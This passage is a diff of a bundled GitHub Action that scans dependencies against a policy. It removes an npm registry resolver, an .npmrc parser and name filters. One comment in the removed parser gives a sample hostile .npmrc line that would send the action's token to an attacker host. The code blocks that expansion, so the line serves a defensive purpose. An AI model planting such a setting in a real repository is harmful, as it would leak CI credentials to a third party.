-        return bytes === null ? 'absent' : `sha256:${(0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex')}`;
-    }
-    catch (e) {
-        return `error:${e instanceof Error ? e.message : String(e)}`;
-    }
-}
-
+// EXTERNAL MODULE: ./src/diff/diff.ts + 1 modules
+var diff = __nccwpck_require__(5119);
 // EXTERNAL MODULE: ./src/catalog/index.ts
 var src_catalog = __nccwpck_require__(15799);
 // EXTERNAL MODULE: ./src/model/version.ts
@@ -96812,7 +98245,7 @@ function ruleFor(id, findings, declared) {
         },
     };
 }
-function sarif_fingerprint(parts) {
+function fingerprint(parts) {
     return (0,external_node_crypto_.createHash)('sha256').update(parts).digest('hex');
 }
 /** Renders a report as SARIF 2.1.0. Removed findings are left out: they are no longer in the code. */
@@ -96861,7 +98294,7 @@ function renderSarif(report, options) {
                 },
             ],
             partialFingerprints: {
-                'aiToolingGate/v1': sarif_fingerprint(findingIdentity({ ...f, location: { ...f.location, file } })),
+                'aiToolingGate/v1': fingerprint((0,diff/* findingIdentity */.AZ)({ ...f, location: { ...f.location, file } })),
             },
             ...(f.exception
                 ? {
@@ -96923,7 +98356,7 @@ function renderSarif(report, options) {
                 },
             ],
             partialFingerprints: {
-                'aiToolingGate/v1': sarif_fingerprint([SCAN_ERROR_RULE, file, e.message].join('\u0000')),
+                'aiToolingGate/v1': fingerprint([SCAN_ERROR_RULE, file, e.message].join('\u0000')),
             },
         });
     }
@@ -96980,957 +98413,10 @@ function escapeMd(s) {
 
 // EXTERNAL MODULE: ./src/reporters/summary.ts
 var summary = __nccwpck_require__(39654);
-// EXTERNAL MODULE: ./node_modules/npm-package-arg/lib/npa.js
-var npa = __nccwpck_require__(78056);
-var npa_default = /*#__PURE__*/__nccwpck_require__.n(npa);
-// EXTERNAL MODULE: ./node_modules/semver/index.js
-var action_semver = __nccwpck_require__(62088);
-var semver_default = /*#__PURE__*/__nccwpck_require__.n(action_semver);
-// EXTERNAL MODULE: ./src/util/purl.ts
-var purl = __nccwpck_require__(64059);
-;// CONCATENATED MODULE: ./src/resolver/limited-agent.ts
-const RESPONSE_TOO_LARGE = 'ERESPONSETOOLARGE';
-const COUNT = Symbol('aitg.bytesThisResponse');
-/** An agent for one registry URL that refuses answers over `maxBytes` (headers included). */
-async function limitedAgent(registry, maxBytes, timeoutMs) {
-    const { Agent } = (await Promise.all(/* import() */[__nccwpck_require__.e(799), __nccwpck_require__.e(995)]).then(__nccwpck_require__.t.bind(__nccwpck_require__, 57995, 23)));
-    const { getProxy } = (await __nccwpck_require__.e(/* import() */ 799).then(__nccwpck_require__.t.bind(__nccwpck_require__, 3799, 23)));
-    class BodyLimitedAgent extends Agent {
-        async connect(request, options) {
-            const socket = (await super.connect(request, options));
-            socket[COUNT] = 0;
-            // The HTTP parser reads the socket in flowing mode already; one more listener only counts.
-            socket.on('data', (chunk) => {
-                const seen = (socket[COUNT] ?? 0) + chunk.length;
-                socket[COUNT] = seen;
-                if (seen > maxBytes) {
-                    socket.destroy(Object.assign(new Error(`response over the limit of ${maxBytes} bytes`), {
-                        code: RESPONSE_TOO_LARGE,
-                    }));
-                }
-            });
-            return socket;
-        }
-        addRequest(request, options) {
-            // A kept-alive socket starts each response at zero.
-            request.once('socket', (s) => {
-                s[COUNT] = 0;
-            });
-            super.addRequest(request, options);
-        }
-    }
-    return new BodyLimitedAgent({ timeout: timeoutMs, proxy: getProxy(registry, {}) ?? undefined });
-}
-
-;// CONCATENATED MODULE: ./src/resolver/manifest.ts
-// The manifest an install of a registry spec would pick, with npm's own pieces for exactly this:
-// npm-registry-fetch fetches the packument (auth, proxies and headers as npm sends them) and
-// npm-pick-manifest picks the version (dist-tags, ranges, the `latest` preference). No tarball is
-// ever fetched, nothing is written to disk, no script can run.
-
-/** The abbreviated ("corgi") packument, with the full document as npm's fallback. */
-const CORGI_DOC = 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*';
-const FULL_DOC = 'application/json';
-// Loaded on the first look-up only: runs that never ask a registry do not pay for them.
-let modules = null;
-const load = () => (modules ??= Promise.all([Promise.all(/* import() */[__nccwpck_require__.e(799), __nccwpck_require__.e(706)]).then(__nccwpck_require__.t.bind(__nccwpck_require__, 5706, 23)), __nccwpck_require__.e(/* import() */ 937).then(__nccwpck_require__.t.bind(__nccwpck_require__, 81937, 23))]).then(([f, p]) => ({
-    fetch: f.default,
-    pick: p.default,
-})));
-/**
- * The version `spec` (`name@tag-or-range`) resolves to. Throws what npm throws: `E404`/`E401`/…
- * with `statusCode` for HTTP errors, `ETARGET` when no version matches, `type: 'invalid-json'`.
- */
-async function pickedVersion(spec, options) {
-    const { fetch, pick } = await load();
-    const parsed = npa_default()(spec);
-    const name = parsed.name ?? '';
-    const url = `${options.registry.replace(/\/+$/, '')}/${parsed.escapedName ?? ''}`;
-    const get = async (accept) => {
-        const res = await fetch(url, {
-            ...options.fetchOptions,
-            registry: options.registry,
-            spec: parsed,
-            headers: { accept },
-            integrity: null,
-        });
-        return res.json();
-    };
-    const key = `${name}\0${url}`;
-    let packument = options.packumentCache.get(key);
-    if (!packument) {
-        // A registry that does not serve abbreviated documents answers 404 to them: ask for the full one.
-        packument = get(CORGI_DOC).catch((e) => {
-            if (e.code === 'E404')
-                return get(FULL_DOC);
-            throw e;
-        });
-        options.packumentCache.set(key, packument);
-        // A failed request is not remembered: the caller decides whether to retry.
-        packument.catch(() => options.packumentCache.delete(key));
-    }
-    return pick(await packument, parsed.fetchSpec ?? 'latest', { defaultTag: 'latest' }).version;
-}
-
-;// CONCATENATED MODULE: ./src/resolver/npmrc.ts
-// npm configuration for registry look-ups: the repository's `.npmrc`, the user's `.npmrc` and the
-// `npm_config_*` environment, reduced to what deciding where a package comes from and how to
-// authenticate needs. Everything else npm reads from these files is ignored on purpose: a look-up
-// must not read files named by config (certfile, cafile), run anything, or change behaviour in ways
-// a pull request could use.
-
-
-const PUBLIC_REGISTRY = 'https://registry.npmjs.org/';
-/** `.npmrc` files are small; a larger one is not a config file. */
-const MAX_NPMRC_BYTES = 256 * 1024;
-/** The auth settings npm-registry-fetch reads for a registry (`//host/path/:<key>`). */
-const AUTH_KEYS = ['_authToken', '_auth', 'username', '_password'];
-/**
- * Environment variables a repository's `.npmrc` may never expand: the action's inputs (the GitHub
- * token arrives as INPUT_TOKEN) and the runner's own credentials (ACTIONS_RUNTIME_TOKEN,
- * ACTIONS_ID_TOKEN_REQUEST_TOKEN). Without this, a pull request could add
- * `//attacker.example/:_authToken=${INPUT_TOKEN}` and have the gate send the token away.
- */
-const FORBIDDEN_IN_PROJECT = /^(INPUT_|ACTIONS_)/i;
-const SCOPE = /^@[a-z0-9][a-z0-9._~-]*$/i;
-/** Parses `.npmrc` text (ini: `key = value`, `;`/`#` comments, quoted values) into entries. */
-function parseNpmrc(text) {
-    const entries = [];
-    const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
-    for (let i = 0; i < lines.length; i++) {
-        const line = lines[i].trim();
-        if (line === '' || line.startsWith(';') || line.startsWith('#') || line.startsWith('['))
-            continue;
-        const eq = line.indexOf('=');
-        const key = (eq < 0 ? line : line.slice(0, eq)).trim();
-        let value = eq < 0 ? 'true' : line.slice(eq + 1).trim();
-        if (value.length >= 2 && value.startsWith('"') && value.endsWith('"')) {
-            try {
-                const parsed = JSON.parse(value);
-                if (typeof parsed === 'string')
-                    value = parsed;
-            }
-            catch {
-                value = value.slice(1, -1);
-            }
-        }
-        else if (value.length >= 2 && value.startsWith("'") && value.endsWith("'")) {
-            value = value.slice(1, -1);
-        }
-        if (key !== '')
-            entries.push({ key, value, line: i + 1 });
-    }
-    return entries;
-}
-/** npm's `${VAR}` expansion (`${VAR?}` is empty when unset, `\${` is literal). */
-function expand(value, env, project) {
-    let missing = null;
-    let forbidden = null;
-    const out = value.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, esc, name, optional) => {
-        if (esc.length % 2 === 1)
-            return whole.slice(1);
-        if (project && FORBIDDEN_IN_PROJECT.test(name)) {
-            forbidden ??= name;
-            return '';
-        }
-        const v = env[name];
-        if (v === undefined) {
-            if (!optional)
-                missing ??= name;
-            return esc;
-        }
-        return esc + v;
-    });
-    if (forbidden !== null)
-        return { forbidden };
-    if (missing !== null)
-        return { missing };
-    return { value: out };
-}
-/** A registry URL normalised to end in `/`, or null when it is not an http(s) URL. */
-function normalizeRegistry(raw) {
-    let url;
-    try {
-        url = new URL(raw.trim());
-    }
-    catch {
-        return null;
-    }
-    if (url.protocol !== 'http:' && url.protocol !== 'https:')
-        return null;
-    url.hash = '';
-    url.search = '';
-    if (!url.pathname.endsWith('/'))
-        url.pathname += '/';
-    return url.toString();
-}
-/** A registry URL fit for messages: no credentials, query or fragment. */
-function displayRegistry(registry) {
-    try {
-        const url = new URL(registry);
-        url.username = '';
-        url.password = '';
-        url.search = '';
-        url.hash = '';
-        return url.toString();
-    }
-    catch {
-        return '(invalid registry URL)';
-    }
-}
-function readOptional(path) {
-    try {
-        const buf = (0,external_node_fs_.readFileSync)(path);
-        if (buf.length > MAX_NPMRC_BYTES)
-            return null;
-        return buf.toString('utf8');
-    }
-    catch {
-        return null;
-    }
-}
-function envValue(env, name) {
-    const lower = name.toLowerCase();
-    for (const [k, v] of Object.entries(env))
-        if (k.toLowerCase() === lower && v !== undefined)
-            return v;
-    return undefined;
-}
-/**
- * Reads the npm configuration that decides where packages are looked up, in npm's order of
- * precedence: `registry` option, `npm_config_*` environment, the project `.npmrc`, the user
- * `.npmrc` (`NPM_CONFIG_USERCONFIG`, else `$HOME/.npmrc` from `env`), the public registry.
- * Never reads the machine's home directory unless `env` names it.
- */
-function loadNpmConfig(options) {
-    const { env } = options;
-    const errors = [];
-    const secrets = [];
-    const scopes = new Map();
-    const auth = new Map();
-    let registry = null;
-    const userPath = envValue(env, 'npm_config_userconfig') ??
-        (env.HOME ? (0,external_node_path_.join)(env.HOME, '.npmrc') : env.USERPROFILE ? (0,external_node_path_.join)(env.USERPROFILE, '.npmrc') : undefined);
-    const projectText = options.projectNpmrc !== undefined ? options.projectNpmrc : readOptional((0,external_node_path_.join)(options.root, '.npmrc'));
-    // Lowest precedence first; later layers overwrite.
-    const layers = [
-        { text: userPath ? readOptional(userPath) : null, project: false, file: userPath ?? '' },
-        { text: projectText, project: true, file: '.npmrc' },
-    ];
-    for (const layer of layers) {
-        if (layer.text === null)
-            continue;
-        for (const { key, value: raw, line } of parseNpmrc(layer.text)) {
-            const isRegistry = key === 'registry' || (key.endsWith(':registry') && key.startsWith('@'));
-            const authKey = AUTH_KEYS.find((k) => key.startsWith('//') && key.endsWith(':' + k));
-            if (!isRegistry && !authKey)
-                continue;
-            const expanded = expand(raw, env, layer.project);
-            if ('forbidden' in expanded) {
-                // Only the repository's own file can be hostile; report it so the gate fails closed.
-                errors.push({
-                    file: layer.file,
-                    line,
-                    message: `${key} expands \${${expanded.forbidden}}: a repository's .npmrc may not use the action's or runner's secrets; the setting is ignored`,
-                });
-                continue;
-            }
-            if ('missing' in expanded)
-                continue; // npm would send the literal text; sending nothing is safer
-            const value = expanded.value;
-            if (isRegistry) {
-                const url = normalizeRegistry(value);
-                if (url === null) {
-                    if (layer.project)
-                        errors.push({
-                            file: layer.file,
-                            line,
-                            message: `${key} is not an http(s) URL; the setting is ignored`,
-                        });
-                    continue;
-                }
-                if (key === 'registry')
-                    registry = url;
-                else {
-                    const scope = key.slice(0, -':registry'.length).toLowerCase();
-                    if (SCOPE.test(scope))
-                        scopes.set(scope, url);
-                }
-            }
-            else if (authKey && value !== '') {
-                auth.set(key, value);
-                secrets.push(value);
-                if (authKey === '_auth')
-                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
-                if (authKey === '_password')
-                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
-            }
-        }
-    }
-    for (const [k, v] of Object.entries(env)) {
-        if (v === undefined)
-            continue;
-        const m = /^npm_config_(@[^:]+):registry$/i.exec(k);
-        if (m && SCOPE.test(m[1])) {
-            const url = normalizeRegistry(v);
-            if (url)
-                scopes.set(m[1].toLowerCase(), url);
-        }
-    }
-    const envRegistry = envValue(env, 'npm_config_registry');
-    if (envRegistry !== undefined && normalizeRegistry(envRegistry))
-        registry = normalizeRegistry(envRegistry);
-    if (options.registry !== undefined) {
-        const url = normalizeRegistry(options.registry);
-        if (url === null)
-            throw new Error(`registry "${options.registry}" is not an http(s) URL`);
-        registry = url;
-    }
-    for (const url of [registry, ...scopes.values()]) {
-        if (!url)
-            continue;
-        const u = new URL(url);
-        if (u.password)
-            secrets.push(decodeURIComponent(u.password));
-    }
-    return {
-        registry: registry ?? PUBLIC_REGISTRY,
-        scopes,
-        auth,
-        secrets: secrets.filter((s) => s.length >= 4),
-        errors,
-    };
-}
-/** The registry a package name is looked up in. */
-function registryFor(config, name) {
-    if (name.startsWith('@')) {
-        const scope = name.slice(0, name.indexOf('/')).toLowerCase();
-        const url = config.scopes.get(scope);
-        if (url)
-            return url;
-    }
-    return config.registry;
-}
-/** Replaces every known credential in a message (defence in depth: messages are built without them). */
-function scrub(message, secrets) {
-    let out = message;
-    for (const s of secrets)
-        if (out.includes(s))
-            out = out.split(s).join('***');
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/resolver/npm-resolver.ts
-// Resolves unpinned npm specs (`latest`, `^2.1.0`, `*`, nothing at all) to the version an install
-// would get now, by asking the registry the repository is configured for, the way npm does
-// (npm-registry-fetch for the packument, npm-pick-manifest for dist-tags, ranges and the `latest`
-// preference).
-
-
-
-
-
-
-
-const OFFLINE_NOTE = 'offline: not resolved';
-/** Look-ups in a row that get no answer at all from a registry before the rest skip it. */
-const UNREACHABLE_AFTER = 3;
-const MAX_VERSION_LENGTH = 256;
-/**
- * Which look-up an unpinned npm registry component needs, or a reason it cannot have one, or
- * null when the component is not the resolver's (pinned, not npm, not from a registry).
- */
-function registryRequest(c) {
-    if (c.ecosystem !== 'npm' || c.version !== null || c.sourceKind !== 'registry')
-        return null;
-    let written = (c.spec ?? '').trim();
-    // An alias written whole (`npm:@scope/real@^1`): the part after the real name is the spec.
-    if (written.startsWith('npm:')) {
-        try {
-            const alias = npa_default()(written);
-            if (alias.type === 'alias' && alias.subSpec && alias.subSpec.name === c.name)
-                written = alias.subSpec.rawSpec;
-        }
-        catch {
-            return { reason: `spec "${c.spec}" is not a valid npm alias` };
-        }
-    }
-    const spec = written === '' ? 'latest' : written;
-    let parsed;
-    try {
-        parsed = npa_default().resolve(c.name, spec);
-    }
-    catch {
-        return { reason: `"${c.name}@${spec}" is not a valid npm package spec` };
-    }
-    // Only registry specs: anything else (git, file, URL) is not a registry look-up.
-    if (parsed.type !== 'tag' && parsed.type !== 'range' && parsed.type !== 'version') {
-        return { reason: `spec "${spec}" is not a dist-tag or a version range` };
-    }
-    return { name: c.name, spec };
-}
-/** Runs tasks with at most `limit` in flight. */
-function limiter(limit) {
-    let active = 0;
-    const queue = [];
-    const next = () => {
-        if (active >= limit)
-            return;
-        const start = queue.shift();
-        if (start) {
-            active++;
-            start();
-        }
-    };
-    return (task) => new Promise((resolve, reject) => {
-        queue.push(() => {
-            task()
-                .then(resolve, reject)
-                .finally(() => {
-                active--;
-                next();
-            });
-        });
-        next();
-    });
-}
-function failureOf(e) {
-    return typeof e === 'object' && e !== null ? e : {};
-}
-/** No HTTP answer at all: a timeout or a network error. */
-function isUnanswered(f, timedOut) {
-    if (timedOut || f.type === 'request-timeout')
-        return true;
-    if (f.statusCode !== undefined || f.type === 'invalid-json')
-        return false;
-    return (typeof f.code === 'string' && !['ETARGET', 'E404', 'E401', 'E403', RESPONSE_TOO_LARGE].includes(f.code));
-}
-function isRetryable(f, timedOut) {
-    if (timedOut)
-        return true;
-    if (f.statusCode !== undefined)
-        return f.statusCode === 408 || f.statusCode === 429 || f.statusCode >= 500;
-    if (f.code === 'E404' || f.code === 'ETARGET' || f.code === 'E401' || f.code === 'E403')
-        return false;
-    if (f.type === 'invalid-json' || f.code === RESPONSE_TOO_LARGE)
-        return false;
-    // Network errors (ECONNRESET, ECONNREFUSED, EAI_AGAIN, …).
-    return typeof f.code === 'string' && f.code.startsWith('E');
-}
-/** Why a look-up failed, in words that never carry the request's credentials. */
-function npm_resolver_describe(f, timedOut, req, where, attempts, timeoutMs, maxBytes) {
-    const tries = attempts === 1 ? '1 attempt' : `${attempts} attempts`;
-    if (timedOut || f.type === 'request-timeout')
-        return `no answer from ${where} within ${timeoutMs} ms (${tries})`;
-    if (f.code === 'ETARGET')
-        return `no version of ${req.name} matches "${req.spec}" at ${where}`;
-    if (f.code === 'E404' || f.statusCode === 404)
-        return `${req.name} not found at ${where} (HTTP 404)`;
-    if (f.statusCode === 401 || f.statusCode === 403)
-        return `${where} refused the look-up of ${req.name} (HTTP ${f.statusCode}): missing or rejected credentials`;
-    if (f.code === RESPONSE_TOO_LARGE)
-        return `${where} answered ${req.name} with more than ${maxBytes} bytes (AITG_MAX_RESPONSE_BYTES)`;
-    if (f.type === 'invalid-json')
-        return `${where} answered ${req.name} with invalid JSON`;
-    if (f.statusCode !== undefined)
-        return `HTTP ${f.statusCode} from ${where} for ${req.name} (${tries})`;
-    if (typeof f.code === 'string' && /^[A-Z0-9_]{2,40}$/.test(f.code))
-        return `network error ${f.code} reaching ${where} (${tries})`;
-    return `look-up of ${req.name} at ${where} failed (${tries})`;
-}
-const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
-/**
- * Creates the npm resolver stage. Each distinct (name, spec) is looked up once per resolver (its
- * caches and the registry settings last across calls: an audit calls it file by file); failures
- * never throw: the component keeps `version: null` and `versionNote` says why.
- */
-function createNpmResolver(options) {
-    const concurrency = Math.max(1, options.concurrency ?? 8);
-    const timeoutMs = Math.max(1, options.timeoutMs ?? 15_000);
-    const retries = Math.max(0, options.retries ?? 2);
-    const retryDelayMs = Math.max(0, options.retryDelayMs ?? 500);
-    const maxResponseBytes = Math.max(1, options.maxResponseBytes ?? (0,model_limits/* maxResponseBytesFromEnv */.Yb)(options.env));
-    const limit = limiter(concurrency);
-    // One packument request per package per resolver (a run): specs of one package are looked up one after
-    // the other, the first fills the in-memory packument cache and the rest read it; when
-    // the first fails for a reason that is about the package, the rest share that reason.
-    const packumentCache = new Map();
-    const lookups = new Map();
-    const lastOfPackage = new Map();
-    // A registry that answers nothing (down, blackholed) would cost every package the full
-    // timeout and retries; after a few look-ups in a row without an answer the rest skip it.
-    const unanswered = new Map();
-    // One size-bounded agent per registry (keep-alive within a run, proxies from the environment).
-    const agents = new Map();
-    const agentFor = (registry) => {
-        let a = agents.get(registry);
-        if (!a)
-            agents.set(registry, (a = limitedAgent(registry, maxResponseBytes, timeoutMs)));
-        return a;
-    };
-    // The registry settings, read once, on the first look-up; their errors are reported once.
-    let config;
-    return async (components) => {
-        const wanted = components.map(registryRequest);
-        if (!wanted.some((w) => w !== null)) {
-            return { components: [...components], stats: { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 } };
-        }
-        const stats = { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 };
-        let errors = [];
-        if (config === undefined) {
-            config = options.offline
-                ? null
-                : loadNpmConfig({
-                    root: options.root,
-                    env: options.env,
-                    ...(options.registry !== undefined ? { registry: options.registry } : {}),
-                    ...(options.projectNpmrc !== undefined ? { projectNpmrc: options.projectNpmrc } : {}),
-                });
-            errors = config?.errors ?? [];
-        }
-        const settings = config;
-        const lookUp = async (cfg, req) => {
-            const registry = registryFor(cfg, req.name);
-            const agent = await agentFor(registry);
-            const where = displayRegistry(registry);
-            const spec = npa_default().resolve(req.name, req.spec).toString();
-            const down = unanswered.get(registry);
-            if (down && down.inARow >= UNREACHABLE_AFTER) {
-                return {
-                    reason: `skipped: ${where} gave no answer to ${down.inARow} look-ups in a row (last: ${down.last})`,
-                    byPackage: true,
-                };
-            }
-            let attempt = 0;
-            for (;;) {
-                attempt++;
-                stats.attempts++;
-                const controller = new AbortController();
-                let timedOut = false;
-                const timer = setTimeout(() => {
-                    timedOut = true;
-                    controller.abort();
-                }, timeoutMs);
-                try {
-                    const fetchOptions = {
-                        preferOnline: true,
-                        // No `cache`: nothing is written to disk and every run asks the registry afresh.
-                        fetchRetries: 0,
-                        timeout: timeoutMs,
-                        signal: controller.signal,
-                        userAgent: 'ai-tooling-gate',
-                        agent,
-                    };
-                    for (const [k, v] of cfg.auth)
-                        fetchOptions[k] = v;
-                    // The signal aborts the request; the race makes sure nothing waits past the timeout
-                    // even if some layer below does not honour it.
-                    const found = await Promise.race([
-                        pickedVersion(spec, { registry, packumentCache, fetchOptions }),
-                        new Promise((_, reject) => controller.signal.addEventListener('abort', () => reject(Object.assign(new Error('timed out'), { type: 'request-timeout' })))),
-                    ]);
-                    unanswered.delete(registry);
-                    const version = typeof found === 'string' ? found : '';
-                    if (version.length > MAX_VERSION_LENGTH || semver_default().valid(version) === null) {
-                        return { reason: `${where} answered ${req.name} with an invalid version` };
-                    }
-                    return { version, registry: where };
-                }
-                catch (e) {
-                    const f = failureOf(e);
-                    if (attempt <= retries && isRetryable(f, timedOut)) {
-                        clearTimeout(timer);
-                        await sleep(retryDelayMs * 2 ** (attempt - 1));
-                        continue;
-                    }
-                    const reason = npm_resolver_describe(f, timedOut, req, where, attempt, timeoutMs, maxResponseBytes);
-                    if (isUnanswered(f, timedOut)) {
-                        const inARow = (unanswered.get(registry)?.inARow ?? 0) + 1;
-                        unanswered.set(registry, { inARow, last: reason });
-                    }
-                    else
-                        unanswered.delete(registry);
-                    return { reason, byPackage: f.code !== 'ETARGET' };
-                }
-                finally {
-                    clearTimeout(timer);
-                }
-            }
-        };
-        const outcomes = await Promise.all(wanted.map((w) => {
-            if (w === null)
-                return Promise.resolve(null);
-            if ('reason' in w)
-                return Promise.resolve(w);
-            if (settings === null)
-                return Promise.resolve({ reason: OFFLINE_NOTE });
-            const key = `${w.name}@${w.spec}`;
-            let p = lookups.get(key);
-            if (!p) {
-                const cfg = settings;
-                const previous = lastOfPackage.get(w.name) ?? Promise.resolve(null);
-                p = previous.then((before) => {
-                    if (before && 'reason' in before && before.byPackage)
-                        return before;
-                    stats.lookups++;
-                    return limit(() => lookUp(cfg, w)).catch((e) => ({
-                        reason: `look-up of ${w.name} failed: ${e instanceof Error ? e.message : String(e)}`,
-                    }));
-                });
-                lookups.set(key, p);
-                lastOfPackage.set(w.name, p);
-            }
-            return p;
-        }));
-        const secrets = settings?.secrets ?? [];
-        const out = components.map((c, i) => {
-            const outcome = outcomes[i];
-            const w = wanted[i];
-            if (!outcome || !w)
-                return c;
-            if ('version' in outcome && !('reason' in w)) {
-                stats.resolved++;
-                return {
-                    ...c,
-                    version: outcome.version,
-                    purl: (0,purl/* purlFor */.n)(c.ecosystem, c.name, outcome.version),
-                    versionNote: scrub(`resolved "${w.spec}" to ${outcome.version} from ${outcome.registry}`, secrets),
-                };
-            }
-            stats.unresolved++;
-            const reason = 'reason' in outcome ? outcome.reason : '';
-            return {
-                ...c,
-                versionNote: scrub(reason === OFFLINE_NOTE ? OFFLINE_NOTE : `not resolved: ${reason}`, secrets),
-            };
-        });
-        return { components: out, ...(errors.length > 0 ? { errors } : {}), stats };
-    };
-}
-
-;// CONCATENATED MODULE: ./src/resolver/index.ts
-
-
-/** Adapts a resolver to the audit's `resolve` hook: its errors join the scan's errors. */
-function auditResolveHook(resolver) {
-    return async (components, errors) => {
-        const result = await resolver(components);
-        if (result.errors)
-            errors.push(...result.errors);
-        return result.components;
-    };
-}
-
-// EXTERNAL MODULE: ./src/policy/evaluate.ts + 1 modules
-var evaluate = __nccwpck_require__(84813);
-// EXTERNAL MODULE: ./src/policy/names.ts
-var names = __nccwpck_require__(25714);
-// EXTERNAL MODULE: ./src/model/ecosystems.ts
-var ecosystems = __nccwpck_require__(27184);
-;// CONCATENATED MODULE: ./src/policy/relevance.ts
-
-
-const NON_ASCII = /[^\x00-\x7f]/;
-/** Fragments shorter than this are not worth searching for: every lockfile holds them. */
-const MIN_FRAGMENT = 3;
-/**
- * The longest literal fragment of a normalised name or glob that any name it matches contains,
- * in every spelling a lockfile may write it (so split at glob characters, at `/` and `@`, which a
- * URL may %-escape, and at `-`, `_` and `.`, which PEP 503 treats as one); null when no fragment
- * is long enough to narrow anything, or the name is not ASCII.
- */
-function nameFragment(pattern) {
-    // Letter case of non-ASCII letters does not round-trip (İ lowercases to two characters).
-    if (NON_ASCII.test(pattern))
-        return null;
-    let best = '';
-    for (const f of pattern.toLowerCase().split(/[*?/@\-_.]+/))
-        if (f.length > best.length)
-            best = f;
-    return best.length >= MIN_FRAGMENT ? best : null;
-}
-/**
- * The `%XX` escapes a URL-decoding parser could turn into part of one of these fragments: the
- * escape of any character a fragment holds (either letter case), or of any non-ASCII byte (a
- * UTF-8 sequence may decode to a letter that lowercases into one, as the Kelvin sign does).
- */
-function percentEscapesOf(fragments) {
-    const codes = new Set();
-    for (const f of fragments) {
-        for (const ch of f + f.toUpperCase()) {
-            codes.add(ch.charCodeAt(0).toString(16).padStart(2, '0'));
-        }
-    }
-    return new RegExp(`%(?:[89a-f][0-9a-f]|${[...codes].sort().join('|')})`, 'i');
-}
-function relevance_nameFilter(policy, catalog) {
-    const byEcosystem = new Map();
-    let allEcosystems = false;
-    const entry = (e) => {
-        let n = byEcosystem.get(e);
-        if (!n)
-            byEcosystem.set(e, (n = { all: false, exact: new Set(), globs: [] }));
-        return n;
-    };
-    const addName = (e, name) => {
-        const n = entry(e);
-        const normal = (0,names/* normalizeName */.Pc)(e, name);
-        if (normal.includes('*') || normal.includes('?'))
-            n.globs.push(normal);
-        else
-            n.exact.add(normal);
-    };
-    for (const rule of policy.rules) {
-        if (rule.tool !== undefined) {
-            // An unknown tool matches nothing (evaluate skips it the same way).
-            for (const carrier of catalog.tool(rule.tool)?.carriers ?? [])
-                addName(carrier.ecosystem, carrier.package);
-        }
-        else if (rule.package === undefined) {
-            if (rule.ecosystem === undefined)
-                allEcosystems = true;
-            else
-                entry(rule.ecosystem).all = true;
-        }
-        else if (rule.ecosystem === undefined) {
-            // The policy parser requires an ecosystem with a package; a rule built otherwise covers all.
-            for (const e of ecosystems/* ECOSYSTEMS */.S)
-                addName(e, rule.package);
-        }
-        else {
-            addName(rule.ecosystem, rule.package);
-        }
-    }
-    // Per ecosystem, the lowercase fragments to look for; null: the text cannot be narrowed.
-    const fragments = new Map();
-    for (const [e, n] of byEcosystem) {
-        if (n.all) {
-            fragments.set(e, null);
-            continue;
-        }
-        const list = [];
-        let unbounded = false;
-        for (const p of [...n.exact, ...n.globs]) {
-            const f = nameFragment(p);
-            if (f === null)
-                unbounded = true;
-            else
-                list.push(f);
-        }
-        fragments.set(e, unbounded ? null : list);
-    }
-    const searchers = new Map();
-    const searcherFor = (ecosystems) => {
-        if (allEcosystems)
-            return null;
-        const key = [...ecosystems].sort().join(',');
-        if (searchers.has(key))
-            return searchers.get(key) ?? null;
-        const all = new Set();
-        for (const e of ecosystems) {
-            const f = fragments.get(e);
-            if (f === null) {
-                searchers.set(key, null);
-                return null;
-            }
-            for (const x of f ?? [])
-                all.add(x);
-        }
-        if (all.size === 0)
-            return 'none';
-        // A fragment that contains another is implied by it: keep the shorter one only.
-        const kept = [...all].filter((f) => ![...all].some((g) => g !== f && f.includes(g)));
-        const searcher = {
-            names: new RegExp(kept.map(escapeRegExp).join('|'), 'iu'),
-            escapes: percentEscapesOf(kept),
-        };
-        searchers.set(key, searcher);
-        return searcher;
-    };
-    return {
-        mayMatch(ecosystem, name) {
-            if (allEcosystems)
-                return true;
-            const n = byEcosystem.get(ecosystem);
-            if (!n)
-                return false;
-            if (n.all)
-                return true;
-            const normal = (0,names/* normalizeName */.Pc)(ecosystem, name);
-            return n.exact.has(normal) || n.globs.some((g) => (0,names/* globMatches */.mw)(g, normal));
-        },
-        textMayName(text, ecosystems) {
-            const searcher = searcherFor(ecosystems);
-            if (searcher === 'none')
-                return false;
-            if (searcher === null)
-                return true;
-            if (searcher.names.test(text) || hasEscapes(text, searcher.escapes))
-                return true;
-            // The comparison of most ecosystems lowercases names, and toLowerCase turns a few
-            // non-ASCII letters into ASCII ones (the Kelvin sign into `k`): such text is not ruled out.
-            return ecosystems.some(foldsCase) && NON_ASCII.test(text);
-        },
-    };
-}
-/** Whether an ecosystem compares names case-insensitively (lowercases them). */
-function foldsCase(e) {
-    return (0,names/* normalizeName */.Pc)(e, 'A') === 'a';
-}
-/** Escapes a parser could decode into name characters that the raw text does not show. */
-function hasEscapes(text, percentEscapes) {
-    return text.includes('\\') || (text.includes('%') && percentEscapes.test(text));
-}
-function escapeRegExp(s) {
-    return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
-}
-
-// EXTERNAL MODULE: ./src/inventory/reconcile.ts
-var reconcile = __nccwpck_require__(59268);
-;// CONCATENATED MODULE: ./src/gate/scan.ts
-
-
-
-
-
-
-
-
-
-/**
- * Runs the resolver over the components some rule could match by name, and passes the others
- * through: a look-up for a package no rule names can change no verdict, and would only cost time
- * (and fail closed on a private package the policy does not care about).
- */
-async function resolveRelevant(resolve, components, errors, filter) {
-    const relevant = [];
-    components.forEach((c, i) => {
-        if (filter.mayMatch(c.ecosystem, c.name))
-            relevant.push(i);
-    });
-    if (relevant.length === 0)
-        return components;
-    const resolved = await resolve(relevant.map((i) => components[i]), errors);
-    const out = [...components];
-    relevant.forEach((i, k) => (out[i] = resolved[k]));
-    return out;
-}
-/**
- * Audit mode: every component of one tree judged against the policy. The tree is streamed file by
- * file (`inventoryEach`), manifests first: a lockfile's components are judged as they come and let
- * go, and of the lockfiles only the versions of names some manifest declares are remembered, to
- * reconcile the manifests' entries at the end (`reconcileManifests`). The report is the one the
